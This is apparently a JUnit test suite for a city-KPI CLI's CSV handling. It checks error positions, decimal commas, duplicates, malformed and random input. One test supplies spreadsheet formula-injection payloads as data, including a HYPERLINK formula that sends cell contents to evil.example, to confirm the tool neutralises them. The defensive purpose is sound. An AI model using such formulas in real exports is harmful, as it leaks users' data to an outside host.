package org.citykpi.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Awkward real-world files through {@code citykpi compute}, end to end: each is read right or
 * rejected with the right exit code and a positioned message, the good rows are still computed, and
 * nothing ever prints a Java stack trace. The catalog is the user catalog of {@link
 * ComputeCommandTest} (NET = 100 · hh_net / hh, MORT = 100000 · deaths / pop, GAP = 100 − NET).
 */
class CliErrorsTest {
    @TempDir
    Path dir;

    Path catalog;

    @BeforeEach
    void files() throws IOException {
        catalog = Cli.write(dir, "cat.json", ComputeCommandTest.USER_CATALOG);
    }

    Path bytes(String name, byte[] content) throws IOException {
        Path p = dir.resolve(name);
        Files.write(p, content);
        return p;
    }

    Cli.Run compute(Path data, String... more) {
        String[] args = new String[5 + more.length];
        args[0] = "compute";
        args[1] = "--data";
        args[2] = data.toString();
        args[3] = "--catalog";
        args[4] = catalog.toString();
        System.arraycopy(more, 0, args, 5, more.length);
        return Cli.run(args).assertNoStackTrace();
    }

    static Map<String, Map<String, String>> rows(Cli.Run run) {
        return ComputeCommandTest.byEntityKpi(run.rows());
    }

    static double value(Cli.Run run, String key) {
        Map<String, String> r = rows(run).get(key);
        assertTrue(r != null && !r.get("value").isEmpty(), () -> key + " in\n" + run.out() + run.err());
        return Double.parseDouble(r.get("value"));
    }

    /** Every stderr line is one message: a position or the command's name first. */
    static void oneMessagePerLine(Cli.Run run, String file) {
        for (String line : run.err().split("\\R")) {
            if (!line.isEmpty()) {
                assertTrue(line.startsWith(file) || line.startsWith("citykpi:"), () -> "stray line: " + line);
            }
        }
    }

    /** A European export: UTF-8 BOM, semicolons, CRLF, decimal commas, a quoted name with ';'. */
    static byte[] europeanExport() {
        String text = "entity;period;variable;value\r\n"
                + "\"Bergen; sentrum\";2021;hh;200\r\n"
                + "\"Bergen; sentrum\";2021;hh_net;150,5\r\n"
                + "\"Bergen; sentrum\";2021;pop;1000\r\n"
                + "\"Bergen; sentrum\";2021;deaths;2,5\r\n";
        byte[] body = text.getBytes(StandardCharsets.UTF_8);
        byte[] out = new byte[body.length + 3];
        out[0] = (byte) 0xEF;
        out[1] = (byte) 0xBB;
        out[2] = (byte) 0xBF;
        System.arraycopy(body, 0, out, 3, body.length);
        return out;
    }

    @Test
    void europeanExportWithDecimalComma() throws IOException {
        Path eu = bytes("eu.csv", europeanExport());
        Cli.Run run = compute(eu, "--decimal-comma");
        assertEquals(0, run.code(), run.err());
        // NET = 100 * 150.5 / 200 = 75.25; MORT = 100000 * 2.5 / 1000 = 250; GAP = 100 - 75.25 = 24.75
        assertEquals(75.25, value(run, "Bergen; sentrum|2021|NET"), 1e-12);
        assertEquals(250.0, value(run, "Bergen; sentrum|2021|MORT"), 1e-12);
        assertEquals(24.75, value(run, "Bergen; sentrum|2021|GAP"), 1e-12);
        // the BOM did not become part of the first column's name (else the header would not match)
        assertTrue(run.err().contains("4 rows read: 4 accepted, 0 rejected"), run.err());
    }

    @Test
    void europeanExportWithoutDecimalCommaSaysSo() throws IOException {
        Path eu = bytes("eu.csv", europeanExport());
        Cli.Run run = compute(eu);
        assertEquals(1, run.code(), run.err());
        // line 3 holds 150,5 in column 4, line 5 holds 2,5
        assertTrue(run.err().contains("eu.csv:3:4:") && run.err().contains("150,5"), run.err());
        assertTrue(run.err().contains("eu.csv:5:4:"), run.err());
        assertTrue(run.err().contains("--decimal-comma"), run.err());
        oneMessagePerLine(run, eu.toString());
        // the rows with whole numbers are still read: hh and pop are there, hh_net is not
        assertEquals("missing_input", rows(run).get("Bergen; sentrum|2021|NET").get("status"));
        assertTrue(rows(run).get("Bergen; sentrum|2021|NET").get("detail").contains("hh_net"));
    }

    /** Wide layouts with the design's synonym headers, several delimiters. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "City;Year;hh;hh_net;pop;deaths\nOslo;2021;200;50;4000;2\n",
                "uCode\tTIME_PERIOD\thh\thh_net\tpop\tdeaths\nOslo\t2021\t200\t50\t4000\t2\n",
                "GeoCode,Time,deaths,pop,hh_net,hh\r\nOslo,2021,2,4000,50,200\r\n",
                "ENTITY,PERIOD,hh,hh_net,pop,deaths\nOslo,2021,200,50,4000,2\n"
            })
    void wideLayoutWithSynonymHeaders(String text) throws IOException {
        Cli.Run run = compute(Cli.write(dir, "wide.csv", text));
        assertEquals(0, run.code(), run.err());
        // NET = 100 * 50 / 200 = 25; MORT = 100000 * 2 / 4000 = 50; GAP = 75
        assertEquals(25.0, value(run, "Oslo|2021|NET"), 1e-12);
        assertEquals(50.0, value(run, "Oslo|2021|MORT"), 1e-12);
        assertEquals(75.0, value(run, "Oslo|2021|GAP"), 1e-12);
    }

    @Test
    void wideLayoutWithAnEmptyCellIsAMissingInputNotAZero() throws IOException {
        Cli.Run run = compute(Cli.write(dir, "wide.csv", "City;Year;hh;hh_net;pop;deaths\nOslo;2021;200;;4000;2\n"));
        assertEquals(0, run.code(), run.err());
        assertEquals("missing_input", rows(run).get("Oslo|2021|NET").get("status"));
        assertEquals(50.0, value(run, "Oslo|2021|MORT"), 1e-12);
    }

    @Test
    void duplicatesNameBothLines() throws IOException {
        Path dup = Cli.write(
                dir, "dup.csv", "entity,period,variable,value\na,2021,hh,200\na,2021,hh_net,100\na,2021,hh,210\n");
        Cli.Run run = compute(dup);
        assertEquals(1, run.code(), run.err());
        // the duplicate on line 4; the first value, on line 2, is named and kept
        assertTrue(run.err().contains("dup.csv:4:") && run.err().contains("line 2"), run.err());
        assertTrue(run.err().contains("3 rows read: 2 accepted, 1 rejected"), run.err());
        // NET = 100 * 100 / 200 = 50 (not 100 * 100 / 210, nor a sum)
        assertEquals(50.0, value(run, "a|2021|NET"), 1e-12);

        Path wide = Cli.write(dir, "wdup.csv", "City;Year;hh;hh_net\nOslo;2021;200;100\nOslo;2021;300;100\n");
        Cli.Run w = compute(wide);
        assertEquals(1, w.code(), w.err());
        assertTrue(w.err().contains("wdup.csv:3:") && w.err().contains("line 2"), w.err());
        assertEquals(50.0, value(w, "Oslo|2021|NET"), 1e-12);
    }

    @Test
    void unclosedQuoteIsPositionedAndTheOtherRowsAreComputed() throws IOException {
        Path unq = Cli.write(
                dir,
                "unq.csv",
                "entity,period,variable,value\nc,2021,hh,400\nc,2021,hh_net,100\na,2021,\"hh_net,100\n"
                        + "c,2021,pop,2000\nc,2021,deaths,1\n");
        Cli.Run run = compute(unq);
        assertEquals(1, run.code(), run.err());
        assertTrue(run.err().contains("unq.csv:4:3:"), run.err());
        assertTrue(run.err().contains("quote"), run.err());
        oneMessagePerLine(run, unq.toString());
        // c: NET = 100 * 100 / 400 = 25 (before the bad line), MORT = 100000 * 1 / 2000 = 50 (after it)
        assertEquals(25.0, value(run, "c|2021|NET"), 1e-12);
        assertEquals(50.0, value(run, "c|2021|MORT"), 1e-12);
    }

    @Test
    void nonFiniteAndOverflowingNumbersAreRejected() throws IOException {
        Path nan = Cli.write(
                dir,
                "nan.csv",
                "entity,period,variable,value\na,2021,hh,NaN\na,2021,hh_net,Inf\na,2021,pop,-Infinity\n"
                        + "a,2021,deaths,1e999\nc,2021,hh,400\nc,2021,hh_net,100\n");
        Cli.Run run = compute(nan);
        assertEquals(1, run.code(), run.err());
        for (int line = 2; line <= 5; line++) {
            assertTrue(run.err().contains("nan.csv:" + line + ":4:"), line + "\n" + run.err());
        }
        assertTrue(run.err().contains("'NaN'") && run.err().contains("'1e999'"), run.err());
        assertTrue(run.err().contains("6 rows read: 2 accepted, 4 rejected"), run.err());
        // never a silent NaN: nothing of a was accepted, so a has no row; c is computed (100 * 100 / 400 = 25)
        assertFalse(rows(run).containsKey("a|2021|NET"), run.out());
        assertFalse(run.out().contains("NaN") || run.out().contains("Infinity"), run.out());
        assertEquals(25.0, value(run, "c|2021|NET"), 1e-12);
    }

    @Test
    void formulaInjectionIsNeutralisedInTheCsv() throws IOException {
        Path cat = Cli.write(
                dir,
                "inj.json",
                "{\"format\":\"citykpi-catalog/1\",\"id\":\"t\",\"version\":\"1\","
                        + "\"variables\":[{\"id\":\"x\"},{\"id\":\"y\"}],\"indicators\":["
                        + "{\"id\":\"D\",\"name\":\"=1+2\",\"unit\":\"@u\",\"direction\":\"higher\",\"formula\":\"x - y\"}]}");
        String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        Path data = Cli.write(
                dir,
                "inj.csv",
                "entity,period,variable,value\n"
                        + "\"" + evil.replace("\"", "\"\"") + "\",2021,x,1\n"
                        + "\"" + evil.replace("\"", "\"\"") + "\",2021,y,6\n"
                        + "+cmd,2021,x,1\n+cmd,2021,y,1\n"
                        + "-2+3,2021,x,1\n-2+3,2021,y,1\n"
                        + "@SUM(A1),2021,x,1\n@SUM(A1),2021,y,1\n");
        Cli.Run run = Cli.run("compute", "--data", data.toString(), "--catalog", cat.toString())
                .assertNoStackTrace();
        assertEquals(0, run.code(), run.err());
        Map<String, Map<String, String>> got = new HashMap<>();
        for (Map<String, String> r : run.rows()) {
            got.put(r.get("entity"), r);
            // no cell starts with a character a spreadsheet runs as a formula, except a number
            for (Map.Entry<String, String> c : r.entrySet()) {
                String v = c.getValue();
                if (!v.isEmpty() && "=+-@".indexOf(v.charAt(0)) >= 0) {
                    Double.parseDouble(v); // only a number may start with '-' or '+'
                }
            }
        }
        // neutralised by a leading apostrophe, the text kept whole after it
        assertEquals(Set.of("'" + evil, "'+cmd", "'-2+3", "'@SUM(A1)"), got.keySet());
        assertEquals("'=1+2", got.get("'+cmd").get("name"));
        assertEquals("'@u", got.get("'+cmd").get("unit"));
        // a negative number stays a number: 1 - 6 = -5
        assertEquals(-5.0, Double.parseDouble(got.get("'" + evil).get("value")), 0);
    }

    @Test
    void emptyFileIsUnreadable() throws IOException {
        Path empty = bytes("empty.csv", new byte[0]);
        Cli.Run run = compute(empty);
        assertEquals(3, run.code(), run.err());
        assertTrue(run.err().contains("empty.csv") && run.err().contains("empty"), run.err());
        assertFalse(run.out().contains(Cli.COMPUTE_HEADER), "no output when the input cannot be read");
    }

    @Test
    void headerOnlyGivesAnEmptyResult() throws IOException {
        Cli.Run run = compute(Cli.write(dir, "header.csv", "entity,period,variable,value\n"));
        assertEquals(0, run.code(), run.err());
        assertEquals(Cli.COMPUTE_HEADER, Cli.header(run.out()));
        assertEquals(List.of(), run.rows());
        assertTrue(run.err().contains("0 rows read: 0 accepted, 0 rejected"), run.err());
    }

    @Test
    void raggedRowsArePositioned() throws IOException {
        Path ragged = Cli.write(
                dir, "ragged.csv", "entity,period,variable,value\na,2021,hh,200,extra\na,2021\nc,2021,hh,5\n");
        Cli.Run run = compute(ragged);
        assertEquals(1, run.code(), run.err());
        assertTrue(run.err().contains("ragged.csv:2:5:") && run.err().contains("ragged.csv:3:"), run.err());
        assertTrue(run.err().contains("3 rows read: 1 accepted, 2 rejected"), run.err());
    }

    @Test
    void aLineBreakInsideAQuotedValueStaysOnOneErrorLine() throws IOException {
        Path nl = Cli.write(
                dir,
                "nl.csv",
                "entity,period,variable,value\na,2021,hh,200\na,2021,hh_net,\"15\n0\"\na,2021,pop,\"1\u001b[2J\"\n");
        Cli.Run run = compute(nl);
        assertEquals(1, run.code(), run.err());
        assertTrue(run.err().contains("nl.csv:3:4:"), run.err());
        assertTrue(run.err().contains("nl.csv:5:4:") || run.err().contains("nl.csv:4:4:"), run.err());
        assertFalse(run.err().contains("\u001b"), "no terminal escape copied to stderr");
        oneMessagePerLine(run, nl.toString());
    }

    @Test
    void anOverlongFieldIsRejectedNotRead() throws IOException {
        String big = "a".repeat(1_100_000);
        Cli.Run run = compute(Cli.write(
                dir,
                "long.csv",
                "entity,period,variable,value\nc,2021,hh,400\n" + big + ",2021,hh,1\nc,2021,hh_net,100\n"));
        assertEquals(1, run.code(), run.err());
        assertTrue(run.err().contains("long.csv:3:1:") && run.err().contains("limit"), run.err());
        assertTrue(run.err().length() < 2_000, "the value is not echoed whole");
        assertEquals(25.0, value(run, "c|2021|NET"), 1e-12);
    }

    @Test
    void binaryGarbageIsUnreadable() throws IOException {
        byte[] junk = new byte[512];
        new Random(20240611L).nextBytes(junk);
        Cli.Run run = compute(bytes("junk.csv", junk));
        assertEquals(3, run.code(), run.err());
        assertTrue(run.err().contains("junk.csv"), run.err());
        oneMessagePerLine(run, dir.resolve("junk.csv").toString());
    }

    /**
     * Seeded garbage of several kinds — random bytes, random text from the characters CSV cares
     * about, a good file with bytes flipped — never gives a stack trace or another exit code.
     */
    @Test
    void seededGarbageNeverCrashes() throws IOException {
        Random rnd = new Random(42);
        String alphabet = "ab,;\t\"\r\n0123456789.eE-+ NaInf=@\u00e9\u00ff";
        byte[] good = "entity,period,variable,value\na,2021,hh,200\na,2021,hh_net,150\nb,2021,pop,9\n"
                .getBytes(StandardCharsets.UTF_8);
        for (int k = 0; k < 24; k++) {
            byte[] content;
            switch (k % 3) {
                case 0:
                    content = new byte[rnd.nextInt(300)];
                    rnd.nextBytes(content);
                    break;
                case 1:
                    StringBuilder sb = new StringBuilder(k % 2 == 0 ? "entity,period,variable,value\n" : "");
                    for (int i = rnd.nextInt(300); i > 0; i--) {
                        sb.append(alphabet.charAt(rnd.nextInt(alphabet.length())));
                    }
                    content = sb.toString().getBytes(StandardCharsets.UTF_8);
                    break;
                default:
                    content = good.clone();
                    for (int i = 1 + rnd.nextInt(4); i > 0; i--) {
                        content[rnd.nextInt(content.length)] = (byte) rnd.nextInt(256);
                    }
            }
            Path f = bytes("g" + k + ".csv", content);
            int seed = k;
            Cli.Run run = compute(f);
            assertTrue(Set.of(0, 1, 3).contains(run.code()), () -> "case " + seed + ": exit " + run.code());
            oneMessagePerLine(run, f.toString());
            if (run.code() != 3) {
                assertEquals(Cli.COMPUTE_HEADER, Cli.header(run.out()), "case " + seed);
                assertTrue(run.err().contains("rows read"), "case " + seed + ": " + run.err());
            }
        }
    }
}
